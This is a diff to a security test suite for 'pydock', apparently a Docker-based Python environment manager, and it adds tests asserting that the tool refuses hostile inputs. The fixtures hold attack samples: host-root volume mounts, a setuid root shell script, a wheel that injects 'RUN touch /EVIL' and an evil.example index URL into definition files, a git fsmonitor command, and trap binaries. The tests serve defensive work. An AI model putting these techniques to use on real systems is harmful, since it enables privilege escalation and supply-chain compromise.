@@ -341,6 +341,28 @@ class ComposeOfOthers(Attack):
             self.refused(self.work, "--global", "run", name, "true")
             self.refused(self.work, "--global", "-n", "start", name)
 
+    def test_a_bundle_stays_not_allowed_where_the_data_folder_is_another(self) -> None:
+        """As under cron, or once somebody has removed what can be made again."""
+        bundle = self.work / "other.tar"
+        with tarfile.open(bundle, "w") as archive:
+            for name, text in (("dev/dockerfile", TEMPLATE), ("dev/requirements.txt", ""), ("dev/docker-compose.yml", services(dep={"volumes": ["/:/host"], "command": self.touch()}))):
+                member = tarfile.TarInfo(name)
+                member.size = len(text.encode())
+                archive.addfile(member, io.BytesIO(text.encode()))
+        self.ok("--global", "create", "dev", "--from", str(bundle))
+        self.refused(self.work, "--global", "run", "dev", "true", environ={"XDG_DATA_HOME": str(self.base / "other data")})
+
+    def test_a_file_of_the_names_that_pydock_keeps_beside_it(self) -> None:
+        """What an allowed file includes of its own folder is watched, whatever its name is, but dockerfile, requirements.txt and wheels."""
+        evil = services(dep={"volumes": ["/:/host"], "command": self.touch()})
+        for number, name in enumerate(("dockerfile.orig", "requirements.txt.orig", "requirements.txt.orig1", ".dockerfile.new", ".requirements.txt.new", "wheels/more.yml")):
+            with self.subTest(name):
+                folder = self.project("beside%d" % number, {"docker-compose.yml": "include: [%s]\n" % name + services(), name: "# nothing\n"})
+                self.trusted(folder)
+                self.record()
+                (folder / ".pydock" / "envs" / "dev" / name).write_text(evil.replace('"dev"', '"other"'), encoding="utf-8")
+                self.refused(folder, "run", "dev", "true", names="")
+
     def test_a_clone_of_one_that_is_not_allowed(self) -> None:
         folder = self.mount("cloned")
         for argv in (["--global", "clone", "dev", "mine"], ["--local", "clone", "dev", "mine"]):
@@ -402,8 +424,7 @@ class Shipped(Attack):
             cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
         cls.hits = case.work / "hits"
         script = "#!/bin/sh\necho %%s $(/usr/bin/id -u) >>%s 2>/dev/null || echo %%s >>/opt/venv/hits\nexit 7\n" % shlex.quote(str(cls.hits))
-        names = [*SHADOWED, "python3", "python", "pip"]
-        make_wheel(case.base / "dist", "evil", files={"evil-1.0.data/scripts/" + name: script % (name, name) for name in names}, scripts=["evil-tool = evil:main"])
+        make_wheel(case.base / "dist", "evil", files={"evil-1.0.data/scripts/" + name: script % (name, name) for name in SHADOWED}, scripts=["evil-tool = evil:main"])
         make_wheel(case.base / "dist", "plain", scripts=["plain-tool = plain:main"], files={"plain.py": "def main():\n    print('plain')\n"})
         case.ok("create", "r", **cls.me)
         case.ok("install", "r", str(case.base / "dist" / "evil-1.0-py3-none-any.whl"), **cls.me)
@@ -431,7 +452,7 @@ class Shipped(Attack):
         self.assertEqual(self.run_pydock("run", "r", "/bin/sh", "-c", "exit 5", **self.me).status, 5)
         self.ok("reset", "r", **self.me)
         self.ok("install", "r", wheel, **self.me)
-        self.assertEqual(self.ok("run", "r", "plain-tool", **self.me) if not self.has_python() else "plain\n", "plain\n")
+        self.assertEqual(self.ok("run", "r", "plain-tool", **self.me), "plain\n")
         self.ok("uninstall", "r", "plain", **self.me)
         self.ok("stop", "r", **self.me)
         self.assertEqual(self.containers(), [])
@@ -439,10 +460,6 @@ class Shipped(Attack):
         self.ok("build", "r", **self.me)
         self.unhurt()
         self.assertNotIn("hits", self.ok("run", "r", "/bin/ls", "/opt/venv", **self.me).split())
-
-    def has_python(self) -> bool:
-        """Whether the package's `python` is the one that its own scripts name."""
-        return True
 
     def test_a_signal_reaches_a_started_program(self) -> None:
         self.ok("start", "r", **self.me)
@@ -486,6 +503,44 @@ class Shipped(Attack):
         roots = [path for path in self.work.rglob("*") if path.lstat().st_mode & stat.S_ISUID and path.lstat().st_uid == 0]
         self.assertEqual(roots, [])
         self.unhurt()
+
+
+class RootsFiles(Attack):
+    """Files of root's that outlive the container, in the project's folder."""
+
+    @classmethod
+    def prepare(cls, case: Case) -> None:
+        cls.me: Dict[str, Any] = {}
+        if PODMAN:
+            raise unittest.SkipTest("the tests are root themselves on podman")
+        case.give_to(OTHER)
+        cls.me = {"preexec_fn": as_user(OTHER, OTHER, docker_groups())}
+
+    def test_a_dockerfile_whose_user_is_root(self) -> None:
+        """A clone's dockerfile says who the user inside is: that must not make a setuid shell of root's on this host."""
+        plain = "FROM %s\n%s" % (BASE, "RUN python3 -m venv /opt/venv && mkdir -p /opt/pydock\nENV PATH=/opt/venv/bin:$PATH\nCOPY dockerfile requirements.txt /opt/pydock/\n")
+        dockerfiles = {"none": plain, "root": plain + "USER 0:0\n", "by name": plain + "USER root\n", "the template without its arguments": TEMPLATE.replace("ARG USER_UID=1000", "ENV USER_UID=0").replace("ARG USER_GID=1000", "ENV USER_GID=0"),
+                       "an entry point": TEMPLATE.replace("USER $USER_UID:$USER_GID\n", "USER 0:0\n"), "later": TEMPLATE + "USER 0\n"}
+        script = "cp /bin/sh rootsh; chown 0:0 rootsh; chmod 4755 rootsh; mkdir -p d; cp rootsh d; exit 0"
+        for number, (title, text) in enumerate(dockerfiles.items()):
+            with self.subTest(title):
+                folder = self.project("rooted%d" % number, dockerfile=text)
+                subprocess.run(["chown", "-R", str(OTHER), str(folder)], check=True)
+                for argv in (["run", "dev", "/bin/sh", "-c", script], ["start", "dev"], ["run", "dev", "/bin/sh", "-c", script], ["stop", "--force", "dev"]):
+                    self.run_pydock(*argv, cwd=folder, **self.me)
+                roots = [path for path in folder.rglob("*") if path.lstat().st_uid == 0]
+                self.assertEqual(roots, [])
+
+    def test_a_bundle_whose_user_is_root(self) -> None:
+        bundle = self.work / "root.tar"
+        with tarfile.open(bundle, "w") as archive:
+            for name, text in (("e/dockerfile", "FROM %s\nRUN python3 -m venv /opt/venv && mkdir -p /opt/pydock\nCOPY dockerfile requirements.txt /opt/pydock/\n" % BASE), ("e/requirements.txt", "")):
+                member = tarfile.TarInfo(name)
+                member.size = len(text.encode())
+                archive.addfile(member, io.BytesIO(text.encode()))
+        self.run_pydock("create", "handed", "--from", str(bundle), **self.me)
+        self.run_pydock("run", "handed", "/bin/sh", "-c", "cp /bin/sh handedsh; chmod 4755 handedsh; exit 0", **self.me)
+        self.assertEqual([path for path in self.work.glob("handedsh") if path.lstat().st_uid == 0], [])
 
 
 class NoNewPrivileges(Attack):
@@ -654,6 +709,53 @@ class Installer(Attack):
         engine("rmi", "-f", tag, check=False)
 
 
+class Definitions(Attack):
+    """A package that changes the environment's own definition from inside: what is written back to this host is pydock's."""
+
+    def test_what_a_package_writes_into_the_copy_of_the_files(self) -> None:
+        write = ("import os\ntry:\n    for name, line in (('dockerfile', 'RUN touch /EVIL'), ('requirements.txt', '--extra-index-url https://evil.example/simple'), ('requirements.txt', '# EVIL'), ('docker-compose.yml', 'EVIL: 1')):\n"
+                 "        with open('/opt/pydock/' + name, 'a') as file:\n            file.write('\\n' + line + '\\n')\nexcept OSError:\n    pass\n")
+        make_wheel(self.base / "dist", "custom", files={"sitecustomize.py": write, "custom.pth": "import sitecustomize\n"})
+        source = self.base / "builder"
+        source.mkdir()
+        (source / "pyproject.toml").write_text('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "planter"\nversion = "1.0"\n', encoding="utf-8")
+        (source / "backend.py").write_text(write + BACKEND[len(PLANT):].replace("import zipfile", "import zipfile"), encoding="utf-8")
+        for installer in ("uv", "pip"):
+            name = "d" + installer
+            self.environ["PYDOCK_INSTALLER"] = installer
+            self.ok("create", name)
+            for argv in (["install", name, str(source)], ["install", name, str(self.base / "dist" / "custom-1.0-py3-none-any.whl")], ["install", name, str(make_wheel(self.base / "dist", "plain"))], ["uninstall", name, "plain"], ["lock", name],
+                         ["rollback", name], ["rollback", name, "2"], ["clone", name, name + "c"], ["build", name]):
+                with self.subTest(argv):
+                    self.run_pydock(*argv)
+                    for folder in self.folder(name).parent.iterdir():
+                        for path in folder.iterdir():
+                            if path.is_file():
+                                self.assertNotIn("evil", path.read_text(encoding="utf-8").lower(), path)
+                    self.assertFalse((self.folder(name) / "docker-compose.yml").exists())
+
+
+class HostPrograms(Attack):
+    def test_no_git_of_the_host_reads_a_project(self) -> None:
+        """git obeys the settings of a folder that looks like a repository."""
+        trap = self.base / "trap"
+        trap.mkdir()
+        for name in ("git", "ssh", "buildctl", "docker-credential-evil", "sh", "python3"):
+            (trap / name).write_text("#!/bin/sh\necho %s \"$@\" >>%s\n%s\n" % (name, shlex.quote(str(self.marker())), "exec /bin/%s \"$@\"" % name if name == "sh" else "exit 1"), encoding="utf-8")
+            (trap / name).chmod(0o755)
+        bare = {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tbare = true\n\tfsmonitor = touch x\n", "objects/x": "", "refs/heads/x": ""}
+        folder = self.project("bare", dict(bare))
+        (folder / ".git").mkdir()
+        for name, data in bare.items():
+            (folder / ".git" / name).parent.mkdir(exist_ok=True)
+            (folder / ".git" / name).write_text(data, encoding="utf-8")
+        path = "%s:%s" % (trap, self.environ["PATH"])
+        for argv in (["build", "dev"], ["run", "dev", "true"], ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["list"], ["start", "dev"], ["activate", "--shell", "sh", "dev"], ["stop", "dev"], ["config"], ["export", "dev", "x.tar"], ["verify", "dev"]):
+            with self.subTest(argv):
+                self.run_pydock(*argv, cwd=folder, environ={"PATH": path})
+                self.assertFalse(self.marker().exists() and self.marker().read_text(encoding="utf-8"))
+
+
 class ImagesOfOthers(Attack):
     """Images that are on this engine because somebody handed them over."""
 
@@ -707,10 +809,9 @@ class ImagesOfOthers(Attack):
         self.ok("create", "mine", environ={"HOME": str(theirs)})
         wheel = str(make_wheel(self.base / "dist", "plain"))
         self.ok("install", "mine", wheel, environ={"HOME": str(theirs)})
-        self.ok("snapshot", "mine", "paper", environ={"HOME": str(theirs)})
         before = self.tags("mine")
         self.assertIn(self.prefix + "-mine:latest", before)
-        for argv in (["list"], ["create", "another"], ["install", "another", wheel], ["prune", "-y"], ["delete", "-y", "another"], ["build", "seed"], ["create", "mine"], ["history", "mine"], ["config"]):
+        for argv in (["list"], ["create", "another"], ["prune", "-y"], ["delete", "-y", "another"], ["build", "seed"], ["create", "mine"]):
             self.safe(self.run_pydock(*argv))
             after = self.tags("mine")
             self.assertEqual({tag: id_ for tag, id_ in before.items() if after.get(tag) != id_ and ":tmp-" not in tag and self.of(id_, str(theirs))}, {}, argv)
@@ -967,7 +1068,7 @@ class Files(Attack):
         self.ok("--global", "create", "e", "--no-build")
         for cwd in (shared, shared / "below"):
             with self.subTest(cwd):
-                self.assertEqual(json.loads(self.run_pydock("config", "--json", cwd=cwd).out or "{}").get("mode", "global"), "global")
+                self.assertRegex(json.loads(self.run_pydock("config", "--json", cwd=cwd).out).get("mode"), "^global")
                 result = self.guarded("delete", "-y", "dev", cwd=cwd)
                 self.assertNotEqual(result.status, 0)
                 self.assertTrue(self.inside(mine).exists())
@@ -1121,13 +1222,15 @@ class Terminals(Attack):
             names = ("command", "python", "packages", "name", "folder", "time", "dockerfile")
             labels = {"pydock." + key: value for key in names}
             labels["pydock.folder"] = pydock.quote("/nowhere/" + STEERS)
+            labels["pydock.name"] = "l1" if number else value
             engine("build", "-q", "-t", tag, *[word for key, text in labels.items() for word in ("--label", "%s=%s" % (key, text))], "-", input="FROM %s\n" % BASE)
             self.ok("create", "l%d" % number, "--no-build")
+            if number:
+                folders = [row["path"] for row in json.loads(self.run_pydock("list", "--all", "--json").out)]
+                self.assertIn("/nowhere/" + STEERS, folders)
             for argv in (["list"], ["list", "--all"], ["prune"], ["config"], ["history", "l%d" % number], ["run", "l%d" % number, "true"], ["lock", "--check", "l%d" % number], ["create", "n", "--from", tag], ["stop", "l%d" % number]):
                 with self.subTest(argv=argv, value=value):
                     self.quiet(*argv)
-            rows = json.loads(self.run_pydock("list", "--all", "--json").out)
-            self.assertIn("/nowhere/" + STEERS, json.dumps(rows, ensure_ascii=False).replace("\\u001b", "\x1b").replace("\\u0007", "\x07").replace("\\u009b", "\x9b"))
             self.quiet("prune", "-y")
 
     def test_labels_of_the_environments_own_image(self) -> None:
